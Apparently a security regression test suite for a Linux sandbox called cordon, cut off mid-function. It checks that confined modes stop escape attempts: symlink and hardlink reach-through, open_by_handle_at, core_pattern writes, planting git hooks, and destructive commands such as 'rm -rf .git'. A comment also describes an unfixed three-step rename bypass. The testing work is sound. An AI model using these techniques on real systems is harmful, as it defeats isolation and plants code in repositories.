//! cordon's security regression suite: one or more cases per threat-model bullet in
//! docs/ (DESIGN.md "What the confined modes must stop"), plus the positive controls
//! that keep a sandbox from passing by blocking everything.
//!
//! Every case is judged by EFFECT observed from outside the sandbox (a sentinel file
//! unchanged, a listener that received nothing, a victim process still alive, a host
//! object not created), plus the errno the probe saw inside where the contract names it.
//! Where cheap, the same operation is also run directly on the host as the same
//! identity (the positive control), proving that the refusal inside is cordon's doing.
//!
//! Run as root to exercise both root and an unprivileged uid (`CORDON_TEST_USER`,
//! default `nobody`). `CORDON_MUST_ENFORCE=1` turns every skip into a failure.
//! See docs/testing.md.
#![cfg(target_os = "linux")]

mod common;

use common::*;
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

/// One `#[test]` that runs its body once per identity (see `each_identity`).
macro_rules! case {
    ($name:ident, |$c:ident| $body:block) => {
        #[test]
        fn $name() {
            each_identity(stringify!($name), |$c: &Ctx| -> Result<(), Skip> {
                $body
                #[allow(unreachable_code)]
                Ok(())
            });
        }
    };
}

/// Like `case!`, but only as the unprivileged uid (needs the suite to run as root).
macro_rules! unpriv_case {
    ($name:ident, |$c:ident| $body:block) => {
        #[test]
        fn $name() {
            unprivileged_only(stringify!($name), |$c: &Ctx| -> Result<(), Skip> {
                $body
                #[allow(unreachable_code)]
                Ok(())
            });
        }
    };
}

/// Pseudo-mode: run the probe directly on the host (the positive control).
const HOST: &str = "host";
const BOTH_AND_HOST: [&str; 3] = [READ_ONLY, WORKSPACE_WRITE, HOST];

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Runs OP under cordon in `how`, or directly on the host when `how` is HOST.
fn attempt(c: &Ctx, how: &str, op: &str, args: &[&str]) -> Result<ProbeResult, Skip> {
    if how == HOST {
        Ok(c.host_probe(op, args))
    } else {
        c.probe(how, op, args)
    }
}

/// For the HOST pseudo-mode asserts the operation worked and returns true.
#[track_caller]
fn is_control(how: &str, r: &ProbeResult, what: &str) -> bool {
    if how == HOST {
        r.assert_ok(&format!("positive control (no sandbox): {what}"));
        true
    } else {
        false
    }
}

/// Per-mode fixture directories: `ws/<tag>` inside the workspace, `outside/<tag>` not.
struct Fx {
    ws: PathBuf,
    out: PathBuf,
}

fn fx(c: &Ctx, tag: &str) -> Fx {
    let f = Fx { ws: c.ws.join(tag), out: c.outside.join(tag) };
    c.mkdir(&f.ws);
    c.mkdir(&f.out);
    f
}

fn opts_at(c: &Ctx, mode: &str, cwd: &Path) -> RunOpts {
    RunOpts { cwd: Some(cwd.to_path_buf()), ..c.opts(mode) }
}

/// Every file and directory below `dir`: path -> (inode, content).
fn tree(dir: &Path) -> BTreeMap<PathBuf, (u64, Vec<u8>)> {
    let mut m = BTreeMap::new();
    fn walk(d: &Path, m: &mut BTreeMap<PathBuf, (u64, Vec<u8>)>) {
        let md = fs::symlink_metadata(d).unwrap();
        m.insert(d.to_path_buf(), (md.ino(), vec![]));
        for e in fs::read_dir(d).unwrap().flatten() {
            let p = e.path();
            let md = fs::symlink_metadata(&p).unwrap();
            if md.is_dir() {
                walk(&p, m);
            } else {
                m.insert(p.clone(), (md.ino(), fs::read(&p).unwrap_or_default()));
            }
        }
    }
    walk(dir, &mut m);
    m
}

#[track_caller]
fn assert_tree_unchanged(before: &BTreeMap<PathBuf, (u64, Vec<u8>)>, dir: &Path, why: &str) {
    assert!(dir.is_dir(), "{why}: {} is no longer a directory", dir.display());
    let after = tree(dir);
    if &after != before {
        let gone: Vec<_> = before.keys().filter(|k| !after.contains_key(*k)).collect();
        let new: Vec<_> = after.keys().filter(|k| !before.contains_key(*k)).collect();
        let changed: Vec<_> =
            before.iter().filter(|(k, v)| after.get(*k).is_some_and(|a| a != *v)).map(|x| x.0).collect();
        panic!("{why}: {} changed; removed {gone:?}, added {new:?}, modified {changed:?}", dir.display());
    }
}

/// A git repository (one commit) at `ws/<tag>`, made on the host by the identity.
fn git_ws(c: &Ctx, tag: &str) -> PathBuf {
    let dir = c.ws.join(tag);
    c.mkdir(&dir);
    c.file(&dir.join("README"), "hello\n");
    c.host_sh(&format!(
        "cd '{}' && git init -q -b main . && git add README && git commit -q -m 'initial commit'",
        dir.display()
    ));
    dir
}

// =====================================================================================
// 0. Harness and contract sanity: if these fail, nothing below means much.
// =====================================================================================

case!(sanity_probe_runs_under_cordon, |c| {
    for mode in CONFINED {
        c.probe(mode, "true", &[])?.assert_ok("the probe must be able to run inside the sandbox");
    }
});

case!(sanity_json_and_exit_status_mirror_command, |c| {
    let out = c.sh(&c.opts(WORKSPACE_WRITE), "echo to-stdout; echo to-stderr >&2; exit 3")?;
    assert_eq!(out.status.code(), Some(3), "cordon's exit status must mirror the command: {out:?}");
    assert_eq!(out.exit_code(), Some(3), "{out:?}");
    assert!(out.out().contains("to-stdout"), "{out:?}");
    assert!(out.err().contains("to-stderr"), "{out:?}");
    let j = out.j();
    for k in ["exit_code", "signal", "timed_out", "aborted", "timeout_ms", "stdout", "stderr", "sandbox"] {
        assert!(j.get(k).is_some(), "run result lacks `{k}`: {out:?}");
    }
    for k in ["mode", "runner", "denied", "denials", "enforcement", "runner_failed"] {
        assert!(j["sandbox"].get(k).is_some(), "sandbox facts lack `{k}`: {out:?}");
    }
    assert!(j["sandbox"]["enforcement"]["gaps"].is_array(), "enforcement.gaps must be a list: {out:?}");
});

case!(sanity_confined_modes_report_mode_and_a_real_runner, |c| {
    for mode in CONFINED {
        let out = c.cordon(&c.opts(mode), &["/bin/true"])?;
        out.assert_success();
        let sb = &out.j()["sandbox"];
        assert_eq!(sb["mode"].as_str(), Some(mode), "applied mode must be the requested one: {out:?}");
        let runner = sb["runner"].as_str().unwrap_or("");
        assert!(!runner.is_empty() && runner != "passthrough", "a confined mode ran under runner {runner:?}: {out:?}");
        assert_eq!(sb["runner_failed"].as_bool(), Some(false), "{out:?}");
    }
});

case!(sanity_passthrough_is_refused_for_confined_modes, |c| {
    // `passthrough` confines nothing; asking for it with a confined mode must not run
    // the command at all (fail closed), whatever the error shape.
    let marker = c.outside.join("passthrough-ran");
    let mut o = c.opts(WORKSPACE_WRITE);
    o.runner = Some("passthrough".into());
    o.expect_error = true;
    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&marker)])?;
    assert_absent(&marker, "passthrough with workspace-write ran the command unconfined");
    assert_ne!(out.status.code(), Some(0), "{out:?}");
});

case!(sanity_unavailable_runner_fails_closed, |c| {
    // seatbelt cannot work on Linux: the typed error, exit 125, and nothing runs.
    let marker = c.ws.join("seatbelt-ran");
    let mut o = c.opts(WORKSPACE_WRITE);
    o.runner = Some("seatbelt".into());
    o.expect_error = true;
    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&marker)])?;
    assert_absent(&marker, "an unavailable runner must not run the command");
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_eq!(out.json.as_ref().and_then(|j| j["error"]["code"].as_str()), Some("SANDBOX_UNAVAILABLE"), "{out:?}");
});

// =====================================================================================
// 1. File writes, creates, deletes, renames, links, truncation outside writable roots.
// =====================================================================================

case!(fs_overwrite_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let r = attempt(c, how, "overwrite", &[s(&sent.path), "pwned\n"])?;
        if is_control(how, &r, "overwrite") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "overwrite a file outside the workspace");
        sent.assert_unchanged("overwrite outside");
    }
});

case!(fs_append_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let r = attempt(c, how, "append", &[s(&sent.path), "pwned\n"])?;
        if is_control(how, &r, "append") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "append to a file outside the workspace");
        sent.assert_unchanged("append outside");
    }
});

case!(fs_create_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let target = f.out.join("created");
        let r = attempt(c, how, "create", &[s(&target)])?;
        if is_control(how, &r, "create") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "create a file outside the workspace");
        assert_absent(&target, "create outside");
    }
});

case!(fs_write_through_dotdot_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        // Relative to the workspace (the probe's cwd): ../outside/<tag>/dotdot
        let rel = format!("../outside/{how}/dotdot");
        let r = attempt(c, how, "write", &[&rel])?;
        if is_control(how, &r, "write via ..") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "write outside through `..`");
        assert_absent(&f.out.join("dotdot"), "write via ..");
    }
});

case!(fs_system_paths_read_only, |c| {
    let tag = c.unique();
    for mode in CONFINED {
        for dir in ["/etc", "/usr/local", "/var/tmp"] {
            let target = PathBuf::from(format!("{dir}/cordon-probe-{tag}-{mode}"));
            let r = c.probe(mode, "create", &[s(&target)])?;
            let existed = target.exists();
            let _ = fs::remove_file(&target);
            assert!(!existed, "created {} on the host", target.display());
            r.assert_refused("create a file in a system directory");
        }
        // The suite's own directory (the probe binary lives there) is host, not workspace.
        let probe_copy = c.suite.dir.join(format!("evil-{tag}-{mode}"));
        c.probe(mode, "create", &[s(&probe_copy)])?.assert_refused("write next to the probe");
        assert_absent(&probe_copy, "write next to the probe");
        // (Not the probe binary itself: writing a running executable is ETXTBSY anyway.)
        let p = Sentinel::record(&c.suite.dir.join("suite-sentinel"));
        c.probe(mode, "overwrite", &[s(&p.path), "X"])?
            .assert_refused_with(FS_DENIED, "overwrite a file next to the probe");
        p.assert_unchanged("overwrite a file next to the probe");
    }
});

case!(fs_unlink_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let r = attempt(c, how, "unlink", &[s(&sent.path)])?;
        if is_control(how, &r, "unlink") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "unlink a file outside the workspace");
        sent.assert_unchanged("unlink outside");
    }
});

case!(fs_rename_outside_file_into_workspace_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let dst = f.ws.join("stolen");
        let r = attempt(c, how, "rename", &[s(&sent.path), s(&dst)])?;
        if is_control(how, &r, "rename outside -> workspace") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "rename a file from outside into the workspace");
        sent.assert_unchanged("rename outside -> ws");
        assert_absent(&dst, "rename outside -> ws");
    }
});

case!(fs_rename_workspace_file_out_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let src = c.file(&f.ws.join("mine"), "workspace file\n");
        let dst = f.out.join("dropped");
        let r = attempt(c, how, "rename", &[s(&src), s(&dst)])?;
        if is_control(how, &r, "rename workspace -> outside") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "rename a workspace file to outside");
        assert_absent(&dst, "rename ws -> outside");
        assert!(src.exists(), "the workspace file vanished");
    }
});

case!(fs_rename_exchange_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let mine = c.sentinel(&f.ws.join("mine"));
        let r = attempt(c, how, "exchange", &[s(&mine.path), s(&sent.path)])?;
        if is_control(how, &r, "renameat2(RENAME_EXCHANGE)") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "RENAME_EXCHANGE of a workspace file with an outside file");
        sent.assert_unchanged("rename-exchange");
        mine.assert_unchanged("rename-exchange (workspace side)");
    }
});

case!(fs_hardlink_outside_file_then_write_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let hl = f.ws.join("hardlink");
        let r = attempt(c, how, "link-write", &[s(&sent.path), s(&hl), "pwned\n"])?;
        if is_control(how, &r, "hardlink + write") {
            continue;
        }
        r.assert_refused("hardlink an outside file into the workspace and write through it");
        sent.assert_unchanged("hardlink reach-through");
        assert_absent(&hl, "hardlink reach-through");
    }
});

case!(fs_new_symlink_then_write_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let r = attempt(c, how, "symlink-write", &[s(&sent.path), s(&f.ws.join("sl")), "pwned\n"])?;
        let newt = f.out.join("via-symlink-new");
        let r2 = attempt(c, how, "symlink-write", &[s(&newt), s(&f.ws.join("sl2")), "pwned\n"])?;
        if is_control(how, &r, "symlink + write") && is_control(how, &r2, "symlink + create") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "write through a new symlink to an outside file");
        sent.assert_unchanged("symlink reach-through");
        r2.assert_refused_with(FS_DENIED, "create through a new symlink to outside");
        assert_absent(&newt, "symlink create-through");
    }
});

case!(fs_planted_symlink_write_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        // Planted before the run: a directory link and a file link, both escaping.
        c.symlink(&f.out, &f.ws.join("escape-dir"));
        c.symlink(&sent.path, &f.ws.join("escape-file"));
        let r1 = attempt(c, how, "create", &[s(&f.ws.join("escape-dir/new"))])?;
        let r2 = attempt(c, how, "overwrite", &[s(&f.ws.join("escape-file")), "pwned\n"])?;
        if is_control(how, &r1, "create via planted dir symlink")
            && is_control(how, &r2, "write via planted file symlink")
        {
            continue;
        }
        r1.assert_refused_with(FS_DENIED, "create through a planted directory symlink");
        assert_absent(&f.out.join("new"), "planted dir symlink");
        r2.assert_refused_with(FS_DENIED, "write through a planted file symlink");
        sent.assert_unchanged("planted file symlink");
    }
});

case!(fs_truncation_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        for (op, args) in [("truncate", vec!["0"]), ("ftruncate", vec!["0"]), ("open-trunc", vec![])] {
            let sent = c.sentinel(&f.out.join(op));
            let mut a = vec![s(&sent.path)];
            a.extend(args);
            let r = attempt(c, how, op, &a)?;
            if is_control(how, &r, op) {
                continue;
            }
            r.assert_refused_with(FS_DENIED, &format!("{op} of a file outside the workspace"));
            sent.assert_unchanged(op);
        }
    }
});

case!(fs_mkdir_rmdir_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let newd = f.out.join("newdir");
        let oldd = f.out.join("olddir");
        c.mkdir(&oldd);
        let r1 = attempt(c, how, "mkdir", &[s(&newd)])?;
        let r2 = attempt(c, how, "rmdir", &[s(&oldd)])?;
        if is_control(how, &r1, "mkdir") && is_control(how, &r2, "rmdir") {
            continue;
        }
        r1.assert_refused_with(FS_DENIED, "mkdir outside");
        assert_absent(&newd, "mkdir outside");
        r2.assert_refused_with(FS_DENIED, "rmdir outside");
        assert!(oldd.is_dir(), "rmdir outside: directory removed");
    }
});

case!(fs_tmpfile_linkat_outside_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        // O_TMPFILE in the workspace, then linkat() it into an outside directory.
        let dest = f.out.join("from-tmpfile");
        let r = attempt(c, how, "tmpfile-link", &[s(&f.ws), s(&dest)])?;
        // O_TMPFILE directly in the outside directory, then linkat() there.
        let dest2 = f.out.join("from-tmpfile-2");
        let r2 = attempt(c, how, "tmpfile-link", &[s(&f.out), s(&dest2)])?;
        if is_control(how, &r, "O_TMPFILE + linkat") && is_control(how, &r2, "O_TMPFILE outside + linkat") {
            continue;
        }
        r.assert_refused("O_TMPFILE in the workspace linked to outside");
        assert_absent(&dest, "O_TMPFILE + linkat");
        r2.assert_refused("O_TMPFILE outside");
        assert_absent(&dest2, "O_TMPFILE outside + linkat");
    }
});

case!(fs_reopen_through_proc_fd_denied, |c| {
    // open(O_RDONLY) is allowed outside; re-opening /proc/self/fd/N for writing must not be.
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let r = attempt(c, how, "reopen-write", &[s(&sent.path), "pwned\n"])?;
        if is_control(how, &r, "reopen via /proc/self/fd") {
            continue;
        }
        r.assert_refused_with(FS_DENIED, "re-open a read-only fd for writing via /proc/self/fd");
        sent.assert_unchanged("reopen via /proc/self/fd");
    }
});

case!(fs_link_via_o_path_fd_denied, |c| {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let dst = f.ws.join("fd-linked");
        let r = attempt(c, how, "fdlink-write", &[s(&sent.path), s(&dst), "pwned\n"])?;
        if is_control(how, &r, "link via O_PATH fd + write") {
            continue;
        }
        r.assert_refused("link an outside file via its O_PATH fd and write through it");
        sent.assert_unchanged("link via O_PATH fd");
        assert_absent(&dst, "link via O_PATH fd");
    }
});

case!(fs_open_by_handle_denied, |c| {
    // open_by_handle_at opens by inode, bypassing path-based rules ("shocker").
    for mode in CONFINED {
        let f = fx(c, mode);
        let sent = c.sentinel(&f.out.join("target"));
        let r = c.probe(mode, "open-by-handle", &[s(&sent.path), "pwned\n"])?;
        sent.assert_unchanged("open_by_handle_at");
        r.assert_refused("open_by_handle_at(O_WRONLY) on an outside file");
    }
    if c.id.is_root() {
        let f = fx(c, HOST);
        let t = c.file(&f.out.join("target"), "x");
        c.host_probe("open-by-handle", &[s(&t)]).assert_ok("control: open_by_handle_at as root on the host");
    }
});

case!(fs_proc_sys_and_cgroupfs_read_only, |c| {
    for mode in CONFINED {
        require_confined(c, mode)?;
        // Writing the current value back: harmless even if it got through.
        let cp = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
        let r = c.probe(mode, "overwrite", &["/proc/sys/kernel/core_pattern", &cp])?;
        r.assert_refused("write /proc/sys/kernel/core_pattern");
        for base in ["/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory"] {
            if !Path::new(base).is_dir() {
                continue;
            }
            let d = PathBuf::from(format!("{base}/cordon-test-{}", c.unique()));
            let r = c.probe(mode, "mkdir", &[s(&d)])?;
            let existed = d.exists();
            let _ = fs::remove_dir(&d);
            assert!(!existed, "created cgroup {} from inside the sandbox\n{r:?}", d.display());
            r.assert_refused("mkdir in cgroupfs");
        }
    }
});

case!(fs_read_only_mode_protects_workspace, |c| {
    let sent = c.sentinel(&c.ws.join("file"));
    let r = c.probe(READ_ONLY, "read", &[s(&sent.path)])?;
    r.assert_ok("read-only mode must still read the workspace");
    assert!(r.detail.contains("sentinel"), "{r:?}");
    for (op, args) in [
        ("overwrite", vec![s(&sent.path), "X"]),
        ("append", vec![s(&sent.path), "X"]),
        ("truncate", vec![s(&sent.path), "0"]),
        ("unlink", vec![s(&sent.path)]),
        ("chmod", vec![s(&sent.path), "0777"]),
    ] {
        c.probe(READ_ONLY, op, &args)?.assert_refused(&format!("read-only: {op} in the workspace"));
        sent.assert_unchanged(&format!("read-only: {op}"));
    }
    let newf = c.ws.join("new");
    c.probe(READ_ONLY, "create", &[s(&newf)])?.assert_refused("read-only: create in the workspace");
    assert_absent(&newf, "read-only: create");
    let newd = c.ws.join("newdir");
    c.probe(READ_ONLY, "mkdir", &[s(&newd)])?.assert_refused("read-only: mkdir in the workspace");
    assert_absent(&newd, "read-only: mkdir");
});

// =====================================================================================
// 2. Metadata changes outside writable roots: chmod, chown, utimes, xattrs.
// =====================================================================================

fn metadata_case(c: &Ctx, op: &str, extra: &[&str]) -> Result<(), Skip> {
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let sent = c.sentinel(&f.out.join("target"));
        let mut a = vec![s(&sent.path)];
        a.extend_from_slice(extra);
        let r = attempt(c, how, op, &a)?;
        if how == HOST {
            r.assert_ok(&format!("control: {op} on the host"));
            // The observer must be able to see the change it is meant to catch.
            assert!(
                sent.check().is_err(),
                "control: {op} on the host left no visible trace; the sentinel check is blind"
            );
            continue;
        }
        r.assert_refused_with(FS_DENIED, &format!("{op} of a file outside the workspace"));
        sent.assert_unchanged(op);
    }
    Ok(())
}

case!(meta_chmod_outside_denied, |c| {
    metadata_case(c, "chmod", &["0666"])?;
});

case!(meta_chown_outside_denied, |c| {
    // root: give it away; unprivileged: a no-op chown to itself (allowed by DAC,
    // still updates ctime, which the sentinel checks).
    let (u, g) = if c.id.is_root() { (1234, 1234) } else { (c.id.uid, c.id.gid) };
    metadata_case(c, "chown", &[&u.to_string(), &g.to_string()])?;
});

case!(meta_utimes_outside_denied, |c| {
    metadata_case(c, "utimes", &[])?;
});

case!(meta_setxattr_outside_denied, |c| {
    metadata_case(c, "setxattr", &["user.cordon", "pwned"])?;
});

// =====================================================================================
// 3. Protected subpaths inside the workspace (.git).
// =====================================================================================

case!(git_write_inside_dotgit_denied, |c| {
    let ws = git_ws(c, "repo");
    let git = ws.join(".git");
    let before = tree(&git);
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    let cases: Vec<(&str, Vec<PathBuf>)> = vec![
        ("overwrite", vec![git.join("config")]),
        ("append", vec![git.join("HEAD")]),
        ("create", vec![git.join("hooks/pre-commit")]),
        ("create", vec![git.join("hooks/post-checkout")]),
        ("write", vec![git.join("index")]),
        ("mkdir", vec![git.join("evil-dir")]),
        ("unlink", vec![git.join("HEAD")]),
        ("truncate", vec![git.join("config")]),
        ("chmod", vec![git.join("config")]),
        ("tmpfile-link", vec![ws.clone(), git.join("hooks/pre-push")]),
    ];
    for (op, paths) in cases {
        let mut args: Vec<&str> = paths.iter().map(|p| s(p)).collect();
        if op == "truncate" {
            args.push("0");
        }
        if op == "chmod" {
            args.push("0777");
        }
        c.probe_with(&o, op, &args)?.assert_refused(&format!("{op} inside .git"));
        assert_tree_unchanged(&before, &git, &format!("{op} inside .git"));
    }
    // Relative spelling from the workspace, as a tool would write it.
    c.mkdir(&ws.join("sub"));
    c.probe_with(&o, "write", &[".git/hooks/pre-commit"])?.assert_refused("write .git/hooks/pre-commit (relative)");
    c.probe_with(&o, "write", &["sub/../.git/config"])?.assert_refused("write .git/config via ..");
    assert_tree_unchanged(&before, &git, "relative writes into .git");
    // Control: the rest of the repository is writable.
    c.probe_with(&o, "write", &[s(&ws.join("README")), "edited\n"])?.assert_ok("edit a tracked file");
});

case!(git_rename_and_delete_dotgit_denied, |c| {
    let ws = git_ws(c, "repo");
    let git = ws.join(".git");
    let before = tree(&git);
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    c.probe_with(&o, "rename", &[s(&git), s(&ws.join("moved-git"))])?.assert_refused("rename .git");
    assert_tree_unchanged(&before, &git, "rename .git");
    assert_absent(&ws.join("moved-git"), "rename .git");
    c.probe_with(&o, "rename", &[s(&git.join("HEAD")), s(&ws.join("HEAD"))])?.assert_refused("move a file out of .git");
    c.probe_with(&o, "rename", &[s(&git.join("refs")), s(&ws.join("refs"))])?
        .assert_refused("move a directory out of .git");
    assert_tree_unchanged(&before, &git, "move entries out of .git");
    let out = c.sh(&o, "rm -rf .git; rm -rf .git/*; find .git -delete; true")?;
    assert_tree_unchanged(&before, &git, &format!("rm -rf .git: {out:?}"));
    c.probe_with(&o, "rmdir", &[s(&git.join("refs/tags"))])?.assert_refused("rmdir inside .git");
    assert_tree_unchanged(&before, &git, "rmdir inside .git");
});

case!(git_replace_dotgit_denied, |c| {
    let ws = git_ws(c, "repo");
    let git = ws.join(".git");
    let before = tree(&git);
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    // A fake .git prepared inside the workspace (by the command itself, here by the host).
    let fake = ws.join("fake");
    c.mkdir(&fake);
    c.file(&fake.join("config"), "[core]\n\thooksPath = /tmp/evil\n");
    c.probe_with(&o, "exchange", &[s(&fake), s(&git)])?.assert_refused("RENAME_EXCHANGE fake <-> .git");
    assert_tree_unchanged(&before, &git, "exchange .git");
    c.probe_with(&o, "rename", &[s(&fake.join("config")), s(&git.join("config"))])?
        .assert_refused("rename a file over .git/config");
    assert_tree_unchanged(&before, &git, "rename over .git/config");
    let out = c.sh(&o, "mv .git .git-old && mkdir .git && cp -r fake/. .git/; true")?;
    assert_tree_unchanged(&before, &git, &format!("mv .git away and recreate: {out:?}"));
    assert_absent(&ws.join(".git-old"), "mv .git away");
});

case!(git_link_reach_through_denied, |c| {
    let ws = git_ws(c, "repo");
    let git = ws.join(".git");
    let before = tree(&git);
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    // New links made by the command.
    c.probe_with(&o, "symlink-write", &[s(&git.join("config")), s(&ws.join("cfg-sl")), "pwned\n"])?
        .assert_refused("write .git/config through a new symlink");
    c.probe_with(&o, "symlink-write", &[".git/hooks/post-checkout", s(&ws.join("hook-sl")), "pwned\n"])?
        .assert_refused("create a hook through a new relative symlink");
    c.probe_with(&o, "link-write", &[s(&git.join("config")), s(&ws.join("cfg-hl")), "pwned\n"])?
        .assert_refused("write .git/config through a new hardlink");
    c.probe_with(&o, "symlink-write", &[s(&git.join("hooks")), s(&ws.join("hooks-dir-sl")), "x"])?;
    c.probe_with(&o, "create", &[s(&ws.join("hooks-dir-sl/pre-commit"))])?
        .assert_refused("create a hook through a symlink to .git/hooks");
    assert_tree_unchanged(&before, &git, "new links into .git");
    // Links planted in the repository before the run (a cloned repo can carry them).
    c.symlink(&git.join("config"), &ws.join("planted-cfg"));
    c.symlink(&git, &ws.join("planted-gitdir"));
    c.probe_with(&o, "overwrite", &[s(&ws.join("planted-cfg")), "pwned\n"])?
        .assert_refused("write through a planted symlink to .git/config");
    c.probe_with(&o, "create", &[s(&ws.join("planted-gitdir/hooks/pre-commit"))])?
        .assert_refused("create through a planted symlink to .git");
    assert_tree_unchanged(&before, &git, "planted links into .git");
});

case!(git_metadata_in_dotgit_denied, |c| {
    let ws = git_ws(c, "repo");
    let git = ws.join(".git");
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    for (op, extra) in [("chmod", vec!["0777"]), ("utimes", vec![]), ("setxattr", vec!["user.cordon", "x"])] {
        let sent = Sentinel::record(&git.join("config"));
        let mut a = vec![s(&sent.path)];
        a.extend(extra);
        c.probe_with(&o, op, &a)?.assert_refused(&format!("{op} on .git/config"));
        sent.assert_unchanged(&format!("{op} on .git/config"));
    }
    let d = Sentinel::record(&git);
    c.probe_with(&o, "chmod", &[s(&git), "0777"])?.assert_refused("chmod .git");
    d.assert_unchanged("chmod .git");
});

case!(git_pointer_file_target_protected, |c| {
    // `.git` as a file (worktree/submodule style) pointing at a directory that is itself
    // inside the workspace: the pointer target is protected too.
    let ws = c.ws.join("linked");
    c.mkdir(&ws);
    c.file(&ws.join("README"), "hello\n");
    let real = ws.join("realgit");
    c.host_sh(&format!(
        "cd '{}' && git init -q -b main --separate-git-dir='{}' . && git add README && git commit -q -m init",
        ws.display(),
        real.display()
    ));
    assert!(ws.join(".git").is_file(), ".git should be a pointer file");
    let before = tree(&real);
    let ptr = Sentinel::record(&ws.join(".git"));
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    c.probe_with(&o, "overwrite", &[s(&real.join("config")), "pwned\n"])?
        .assert_refused("write the pointer target's config");
    c.probe_with(&o, "create", &[s(&real.join("hooks/pre-commit"))])?
        .assert_refused("create a hook in the pointer target");
    c.probe_with(&o, "rename", &[s(&real), s(&ws.join("moved"))])?.assert_refused("rename the pointer target");
    c.probe_with(&o, "overwrite", &[s(&ws.join(".git")), "gitdir: /tmp/evil\n"])?
        .assert_refused("rewrite the .git pointer file");
    c.probe_with(&o, "unlink", &[s(&ws.join(".git"))])?.assert_refused("delete the .git pointer file");
    assert_tree_unchanged(&before, &real, "pointer target");
    ptr.assert_unchanged(".git pointer file");
});

// Known gap (review1 report, finding 1): on Linux only the protected path itself is a
// read-only mount point, so a run may rename a directory ON THE WAY to a pointer target
// (`meta` for `meta/repo.git`); the next run resolves the pointer to a missing path,
// silently drops it from the protected set, writes the real gitdir under its new name
// and moves it back. Un-ignore with the fix (pin the ancestors, as the Seatbelt plan
// does with `protected-ancestors.sb`, or refuse such layouts).
#[test]
fn git_pointer_target_survives_a_rename_of_its_ancestor() {
    each_identity("git_pointer_target_survives_a_rename_of_its_ancestor", |c: &Ctx| -> Result<(), Skip> {
        let ws = c.ws.join("linked");
        c.mkdir(&ws);
        c.mkdir(&ws.join("meta"));
        c.file(&ws.join("README"), "hello\n");
        let real = ws.join("meta/repo.git");
        c.host_sh(&format!(
            "cd '{}' && git init -q -b main --separate-git-dir='{}' . && git add README && git commit -q -m init",
            ws.display(),
            real.display()
        ));
        let before = tree(&real);
        let o = opts_at(c, WORKSPACE_WRITE, &ws);
        // Control: the target itself is protected, and the workspace stays writable.
        c.probe_with(&o, "create", &[s(&real.join("hooks/pre-commit"))])?.assert_refused("create a hook in the target");
        c.probe_with(&o, "write", &["README", "edited\n"])?.assert_ok("the rest stays writable");
        // The attack: three ordinary runs, no race.
        let stash = ws.join("stash");
        let _ = c.probe_with(&o, "rename", &[s(&ws.join("meta")), s(&stash)])?;
        let _ = c.probe_with(&o, "create", &[s(&stash.join("repo.git/hooks/pre-commit"))])?;
        let _ = c.probe_with(&o, "rename", &[s(&stash), s(&ws.join("meta"))])?;
        assert_tree_unchanged(&before, &real, "pointer target after a rename of its parent");
        Ok(())
    });
}

case!(git_mount_tricks_do_not_unprotect, |c| {
    let ws = git_ws(c, "repo");
    let git = ws.join(".git");
    let before = tree(&git);
    let o = opts_at(c, WORKSPACE_WRITE, &ws);
    require_confined(c, WORKSPACE_WRITE)?;
    c.probe_with(&o, "umount-write", &[s(&git), s(&git.join("config"))])?.assert_refused("umount .git then write");
    c.probe_with(&o, "remount-write", &[s(&git), s(&git.join("config"))])?.assert_refused("remount .git rw then write");
    assert_tree_unchanged(&before, &git, "mount tricks on .git");
});

case!(git_protected_when_workspace_reached_through_symlink, |c| {
    let ws = git_ws(c, "repo");
    let link = c.root.join("repo-link");
    c.symlink(&ws, &link);
    let git = ws.join(".git");
    let before = tree(&git);
    let o = opts_at(c, WORKSPACE_WRITE, &link);
